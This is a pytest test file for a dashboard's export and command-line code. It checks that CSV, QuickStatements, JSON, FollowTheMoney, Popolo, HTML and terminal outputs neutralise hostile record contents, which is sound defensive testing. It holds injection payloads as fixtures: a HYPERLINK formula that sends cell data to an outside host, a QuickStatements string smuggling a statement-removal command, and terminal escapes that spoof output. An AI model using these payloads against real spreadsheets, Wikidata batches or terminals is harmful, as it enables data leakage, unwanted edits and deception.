"""Nothing in the record can act on its reader (issue 22, the outputs): a record whose names,
roles, notes, quotes and URLs are written to attack each output — spreadsheet formulas in CSV,
separators and escapes in QuickStatements, markup in the report, terminal escapes on standard
output — and every output of it read back by a parser of its format: csv and pandas; the rules
of the three QuickStatements V1 readers (see test_interchange); json; the followthemoney model;
the Popolo schema; html.parser with the report's script hashes."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from dashboard.analysis import interchange
from dashboard.cli import main
from support.interchange import SPLITTERS, check_popolo, followthemoney_model, parse_quickstatements
from support.records import REPO, TODAY, load

FORMULA = '=HYPERLINK("http://host/?"&A1,"x")'
REMOVAL = "||-Q42|P31|Q5||"
URL = 'https://example.org/a|b"c\\d/*x*/?q=___QSTS3_PLACEHOLDER___'

# Only printable characters: valid whether or not the record admits control characters (the
# tests that need tabs and line breaks in a name set them after validation).
RECORD = r"""sources:
  web:
    url: 'https://example.org/a|b"c\d/*x*/?q=___QSTS3_PLACEHOLDER___'
    language: en
organizations:
  formula: {name: '=HYPERLINK("http://host/?"&A1,"x")', wikidata: Q1001}
  plus: {name: '+1+2', wikidata: Q1002}
  minus: {name: '-2+3', wikidata: Q1003}
  at: {name: '@SUM(1+1)', wikidata: Q1004}
people:
  ada: {name: 'Ada Example \'}
  bo: {name: 'Bo ||-Q42|P31|Q5|| "Pipe" \'}
moves:
  - id: ada-move
    person: ada
    from: formula
    to: plus
    date: "2024-05"
    date_kind: effective
    role: '-5'
    note: '=1+1'
    evidence:
      - source: web
        quote: 'Ada Example \ moved. ||-Q42|P31|Q5|| "x" \'
  - id: bo-move
    person: bo
    from: minus
    to: at
    date: "2024-06"
    date_kind: effective
    evidence:
      - source: web
        quote: 'a /* hidden */ b ___QSTS3_PLACEHOLDER___ c ||-Q42|P31|Q5|| \'
"""
NAMES = {"formula": FORMULA, "plus": "+1+2", "minus": "-2+3", "at": "@SUM(1+1)"}


@pytest.fixture
def hostile(tmp_path) -> Path:
    path = tmp_path / "data" / "events.yaml"
    path.parent.mkdir()
    path.write_text(RECORD, encoding="utf-8")
    return path


@pytest.fixture
def dataset():
    result = load(RECORD)
    assert result.ok, result.errors
    return result.dataset


def export(path: Path, *args: str, tmp_path: Path) -> str:
    """``export --data path ARGS`` written to a file (the bytes a reader gets)."""
    out = tmp_path / "out"
    code = main(["export", "--data", str(path), "--today", TODAY.isoformat(), *args, "--output", str(out)])
    assert code == 0
    return out.read_bytes().decode("utf-8")


# --- CSV: no cell opens as a formula ------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def assert_no_formula(text: str) -> list[list[str]]:
    """Every cell of the CSV ``text``: none starts a formula, except a number written as one."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or re.fullmatch(r"-\d+(\.\d+)?", cell), (cell, row)
    return rows


def test_the_csv_export_neutralises_every_formula_and_keeps_numbers(hostile, tmp_path):
    text = export(hostile, "--format", "csv", tmp_path=tmp_path)
    assert_no_formula(text)
    frame = pd.read_csv(io.StringIO(text), dtype={"role": str})
    ada = frame.set_index("id").loc["ada-move"]
    assert ada["from_org"] == "'" + FORMULA and ada["to_org"] == "'+1+2"
    assert ada["role"] == "'-5" and ada["note"] == "'=1+1"  # text that looks like a number is text
    bo = frame.set_index("id").loc["bo-move"]
    assert bo["from_org"] == "'-2+3" and bo["to_org"] == "'@SUM(1+1)"
    assert frame["headcount"].dtype.kind == "i" and list(frame["headcount"]) == [1, 1]


@pytest.mark.parametrize("view", ["moves", "flows", "net-flow"])
def test_every_view_csv_neutralises_every_formula_and_keeps_numbers(view, hostile, tmp_path):
    text = export(hostile, "--view", view, "--format", "csv", tmp_path=tmp_path)
    rows = assert_no_formula(text)
    cells = {cell for row in rows for cell in row}
    assert "'" + FORMULA in cells and "'-2+3" in cells and "'@SUM(1+1)" in cells
    if view == "net-flow":  # each origin lost one: -1 stays the number -1
        frame = pd.read_csv(io.StringIO(text))
        assert frame["net"].dtype.kind == "i" and sorted(frame["net"]) == [-1, -1, 1, 1]


def test_the_pages_download_buttons_write_through_the_same_writer():
    from dashboard.ui.components.tables import _csv

    frame = pd.DataFrame(
        {"name": [FORMULA, "+1+2", "-2+3", "@SUM(1+1)", "\tx", "\rx", "-5", "plain"],
         "count": [1, -2, 3, -4, 5, 6, 7, 8], "share": [0.5, -0.25, 1.0, 0.0, 2.5, -1.5, 3.0, 4.0]}
    )  # fmt: skip
    text = _csv(lambda: frame)().decode("utf-8")
    assert_no_formula(text)
    back = pd.read_csv(io.StringIO(text))
    assert list(back["name"]) == ["'" + FORMULA, "'+1+2", "'-2+3", "'@SUM(1+1)", "'\tx", "'\rx", "'-5", "plain"]
    assert back["count"].dtype.kind == "i" and list(back["count"]) == [1, -2, 3, -4, 5, 6, 7, 8]
    assert back["share"].dtype.kind == "f" and back["share"].iloc[1] == -0.25


def test_a_carriage_return_in_a_cell_cannot_start_a_row():
    from dashboard.analysis.export import csv_text

    frame = pd.DataFrame({"quote": ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2+3"], "n": [1, 2, 3]})
    rows = assert_no_formula(csv_text(frame))
    assert rows == [["quote", "n"], ["x\r=1+1", "1"], ["y\n@SUM(1)", "2"], ["z\r\n-2+3", "3"]]


def test_csv_text_judges_each_cell_not_its_column():
    from dashboard.analysis.export import csv_text

    frame = pd.DataFrame({"mixed": [-3, "-3", None, "=x"], "=head": [1, 2, 3, 4]}, dtype=object)
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows == [["mixed", "'=head"], ["-3", "1"], ["'-3", "2"], ["", "3"], ["'=x", "4"]]


def test_every_csv_writer_of_the_project_is_csv_text():
    """One writer for every CSV (the export, the views, the download buttons): no other
    ``to_csv``, ``csv.writer`` or ``DictWriter`` anywhere in the package."""
    for path in (REPO / "dashboard").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for found in re.finditer(r"\.to_csv\(|csv\.writer\(|DictWriter\(", text):
            where = path.relative_to(REPO).as_posix()
            assert where == "dashboard/analysis/export.py", (where, found.group())
            body = text[text.index("def csv_text") : text.index("def rows_to_csv")]
            assert found.start() > text.index("def csv_text") and found.group() in body


# --- QuickStatements: no string ends early or splits a command ---------------------------------


def test_quickstatements_strings_cannot_end_early_or_split(dataset):
    written = interchange.quickstatements(dataset)
    commands = parse_quickstatements(written.lines)  # every reader finds exactly the lines written
    assert len(commands) == 2 * (3 + 2)  # two people created, each left one organisation for another
    assert not any(command[0].startswith("-") for command in commands)
    assert ["LAST", "Len", '"Ada Example ⧵"'] in commands
    assert ["LAST", "Len", "\"Bo ¦¦-Q42¦P31¦Q5¦¦ 'Pipe' ⧵\""] in commands
    claim = next(command for command in commands if command[:3] == ["LAST", "P108", "Q1004"])
    assert claim[claim.index("S854") + 1] == '"https://example.org/a%7Cb%22c%5Cd/%2Ax%2A/?q=___QSTS3%5FPLACEHOLDER___"'
    assert claim[-1] == 'en:"a /∗ hidden ∗/ b ___QSTS3 PLACEHOLDER___ c ¦¦-Q42¦P31¦Q5¦¦ ⧵"'
    # and it says which strings it changed, and how
    assert "person:ada name (backslash)" in written.changed
    assert "person:bo name (pipe, double quote, backslash)" in written.changed
    assert (
        "source:web url (pipe as %7C, double quote as %22, backslash as %5C, '*' of a comment mark as %2A, "
        "QSTS3_PLACEHOLDER)" in written.changed
    )


HOSTILE_WHITESPACE = "Ada\tExample\nSecond line\r\u2028\u2029\x85\x0b\x0c\x1c end \\"


def test_quickstatements_strings_stay_one_value_even_with_tabs_and_line_breaks(dataset):
    """Set after validation: the writer holds even for text a validator would refuse."""
    dataset.document.people["ada"].name = HOSTILE_WHITESPACE + " " + REMOVAL
    dataset.document.moves[0].evidence[0].quote = "one\ttwo\nthree\u2028" + REMOVAL + "\\"
    written = interchange.quickstatements(dataset)
    commands = parse_quickstatements(written.lines)
    assert len(commands) == 10 and not any(command[0].startswith("-") for command in commands)
    assert ["LAST", "Len", '"Ada Example Second line end ⧵ ¦¦-Q42¦P31¦Q5¦¦"'] in commands
    assert any(
        entry.startswith("person:ada name (tab, line feed, carriage return, U+2028") for entry in written.changed
    )


def test_the_splitters_find_the_attack_in_a_string_written_as_before():
    """The readers' rules the tests follow are the ones that make the issue's attack work: a
    label ending in a backslash and a quote with ``||-Q42|P31|Q5||``, written as the export wrote
    them before, give QuickStatements 3.0 a command that removes a statement, and the Rust
    reader commands cut in the middle of a string."""
    before = ["CREATE", 'LAST\tLen\t"Ada Example \\"', "LAST\tP31\tQ5",
              'Q1\tP108\tQ2\tS1683\ten:"Ada moved. ' + REMOVAL + '"']  # fmt: skip
    batch = "".join(line + "\n" for line in before)
    assert ["-Q42", "P31", "Q5"] in SPLITTERS["QuickStatements 3.0"](batch)
    assert ["-Q42", "P31", "Q5"] in SPLITTERS["Rust"](batch)


def test_the_quickstatements_command_says_which_strings_it_changed(hostile, tmp_path, capsys):
    text = export(hostile, "--format", "quickstatements", tmp_path=tmp_path)
    assert len(parse_quickstatements(text.splitlines())) == 10
    err = capsys.readouterr().err
    assert "strings changed so that each stays one value" in err and "person:ada name (backslash)" in err


# --- JSON, FollowTheMoney, Popolo: the text comes back as it was ---------------------------------


def test_the_json_export_parses_and_keeps_every_text(hostile, tmp_path):
    data = json.loads(export(hostile, "--format", "json", tmp_path=tmp_path))
    moves = {move["id"]: move for move in data["moves"]}
    assert moves["ada-move"]["from_org"] == FORMULA and moves["ada-move"]["person"] == "Ada Example \\"
    assert moves["bo-move"]["evidence"][0]["quote"].endswith(REMOVAL + " \\")
    for view in ("moves", "flows", "net-flow"):
        shown = json.loads(export(hostile, "--view", view, "--format", "json", tmp_path=tmp_path))
        assert shown["rows"]


def test_the_followthemoney_export_passes_the_library_and_keeps_every_text(hostile, tmp_path):
    model = followthemoney_model()

    names = set()
    for line in export(hostile, "--format", "ftm", tmp_path=tmp_path).splitlines():
        entity = model.get_proxy(json.loads(line), cleaned=False)
        for prop in entity.iterprops():
            assert all(prop.type.validate(value) for value in entity.get(prop)), (prop.name, entity.get(prop))
        names.update(entity.get("name", quiet=True))
    assert set(NAMES.values()) | {"Ada Example \\", 'Bo ||-Q42|P31|Q5|| "Pipe" \\'} <= names


def test_the_popolo_export_validates_and_keeps_every_text(hostile, tmp_path):
    data = json.loads(export(hostile, "--format", "popolo", tmp_path=tmp_path))
    check_popolo(data)
    assert {org["name"] for org in data["organizations"]} == set(NAMES.values())
    assert {person["name"] for person in data["persons"]} == {"Ada Example \\", 'Bo ||-Q42|P31|Q5|| "Pipe" \\'}


def test_the_report_of_the_record_runs_only_its_own_scripts_and_shows_every_text(dataset):
    import base64
    import hashlib

    from dashboard.analysis import bundle as bundles
    from dashboard.analysis import views
    from dashboard.analysis.selection import select
    from dashboard.ui.report import report_html
    from support.html import Page

    bundle = bundles.build(dataset, "")
    for view in ("moves", "flows", "net-flow"):
        text = report_html(bundle, select(bundle, views.from_query("", bundle)[0]), view, today=TODAY)
        page = Page(text)
        run = [text for kind, text in page.scripts if kind != "application/json"]
        hashes = sorted(f"'sha256-{base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()}'" for t in run)
        assert hashes == sorted(page.script_src()) or (not run and page.script_src() == ["'none'"])
        assert len(run) == (0 if view == "moves" else 3)
        assert all(html.escape(name) in text for name in NAMES.values()), view  # shown as text


# --- The terminal: what the command line prints shows control characters, never runs them ------

RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
"""A character a terminal acts on (a CR before an LF only ends a line)."""
CLEAR_LINE = "\x1b[2K\r"
TITLE = "\x1b]0;title\x07"
FAKE = f"{CLEAR_LINE}events.yaml: valid (9 moves){TITLE}"

# Written as YAML escapes, so the file itself is printable text; whether the record admits such
# names is the validator's business: the tests only require that nothing is printed raw.
CONTROL_RECORD = r"""sources:
  web: {url: "https://example.org/x", language: en}
organizations:
  evil: {name: "Evil \e[2K\revents.yaml: valid (9 moves)\e]0;title\a"}
  bidi: {name: "Bidi \u202eOrg\u202c \x9b2J \x7f"}
people:
  eve: {name: "Eve \e[2K\r"}
moves:
  - id: eve-move
    person: eve
    from: evil
    to: bidi
    date: "2024-05"
    date_kind: effective
    evidence:
      - source: web
        quote: "Eve moved."
"""


def assert_shown(*texts: str) -> None:
    for text in texts:
        assert not RAW.search(text), ascii(text)


def run(capsys, *args: str) -> tuple[int, str, str]:
    try:
        code = main([*args])
    except SystemExit as exit:  # argparse's usage errors
        code = exit.code
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def named(tmp_path) -> Path:
    """The record, in a file whose name would clear the line and set the window title."""
    path = tmp_path / f"ev{FAKE}.yaml"
    path.write_text(CONTROL_RECORD, encoding="utf-8")
    return path


def test_validate_prints_no_control_character_raw(named, capsys):
    code, out, err = run(capsys, "validate", str(named), "--today", TODAY.isoformat())
    assert code in (0, 1) and out  # valid, or refused with its errors: either way said, not run
    assert_shown(out, err)
    assert "\\u001b[2K\\u000d" in out  # the file name, shown


@pytest.mark.parametrize("kind", ["json", "csv", "quickstatements", "ftm", "popolo"])
def test_export_prints_no_control_character_raw(kind, named, capsys):
    code, out, err = run(capsys, "export", "--data", str(named), "--format", kind, "--today", TODAY.isoformat())
    assert code in (0, 1)
    assert_shown(out, err)
    if code == 0 and kind == "quickstatements":  # the organisations without an item, named on stderr
        assert "Evil \\u001b[2K\\u000devents.yaml" in err


@pytest.mark.parametrize(
    "args",
    [
        ["validate", f"no/such/{FAKE}.yaml"],
        ["export", "--data", f"no/such/{FAKE}.yaml"],
        ["export", "--format", TITLE],
        ["export", "--view", "moves", "--query", f"org={CLEAR_LINE}&from={TITLE}"],
        ["report", "--view", "moves", "--query", f"org={FAKE}", "--output", "{tmp}/view.html"],
        ["candidates", f"no-such-source-{FAKE}"],
    ],
    ids=["validate a file", "export a file", "a format", "a query", "a report's query", "a source"],
)
def test_arguments_and_file_names_are_printed_shown(args, capsys, tmp_path):
    code, out, err = run(capsys, *(arg.replace("{tmp}", str(tmp_path)) for arg in args))
    assert_shown(out, err)
    assert code != 0 or args[0] in ("report", "export")


def tampered(monkeypatch, names: dict[str, str]) -> None:
    """Every record the command line loads, with these organisation names set after validation:
    the output holds even for text a validator would refuse."""
    from dashboard.cli import common

    real = common.load_file

    def load_file(*args, **kwargs):
        result = real(*args, **kwargs)
        for org_id, name in names.items():
            result.dataset.document.organizations[org_id].name = name
        return result

    monkeypatch.setattr(common, "load_file", load_file)


UNSHOWN = {"formula": f"A{CLEAR_LINE}B{TITLE}", "plus": "P\u202eQ\u2066\x9b\x7f\x00", "minus": "M\rN\x08"}


def test_json_on_standard_output_stays_json_and_reads_back_the_same_text(hostile, monkeypatch, capsys):
    tampered(monkeypatch, UNSHOWN)
    code, out, err = run(capsys, "export", "--data", str(hostile), "--format", "json", "--today", TODAY.isoformat())
    assert code == 0
    assert_shown(out, err)
    moves = {move["id"]: move for move in json.loads(out)["moves"]}
    assert moves["ada-move"]["from_org"] == UNSHOWN["formula"] and moves["ada-move"]["to_org"] == UNSHOWN["plus"]
    assert moves["bo-move"]["from_org"] == UNSHOWN["minus"]
    for view in ("moves", "flows", "net-flow"):
        code, out, err = run(capsys, "export", "--data", str(hostile), "--view", view, "--format", "json")
        assert code == 0 and json.loads(out)["rows"]
        assert_shown(out, err)


def test_csv_on_standard_output_stays_csv(hostile, monkeypatch, capsys):
    tampered(monkeypatch, UNSHOWN)
    code, out, err = run(capsys, "export", "--data", str(hostile), "--format", "csv", "--today", TODAY.isoformat())
    assert code == 0
    assert_shown(out, err)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [row["id"] for row in rows] == ["ada-move", "bo-move"]
    assert rows[0]["from_org"] == "A\\u001b[2K\\u000dB\\u001b]0;title\\u0007"  # shown, in its one cell
    assert rows[1]["from_org"] == "M\\u000dN\\u0008"
    code, out, err = run(capsys, "export", "--data", str(hostile), "--view", "net-flow", "--format", "csv")
    assert code == 0 and len(list(csv.reader(io.StringIO(out, newline="")))) == 5
    assert_shown(out, err)


def test_a_file_written_with_output_keeps_its_bytes(hostile, monkeypatch, tmp_path):
    """Files are not terminals: the export written to a file is the export, unchanged."""
    tampered(monkeypatch, UNSHOWN)
    data = json.loads(export(hostile, "--format", "json", tmp_path=tmp_path))
    assert {move["from_org"] for move in data["moves"]} == {UNSHOWN["formula"], UNSHOWN["minus"]}
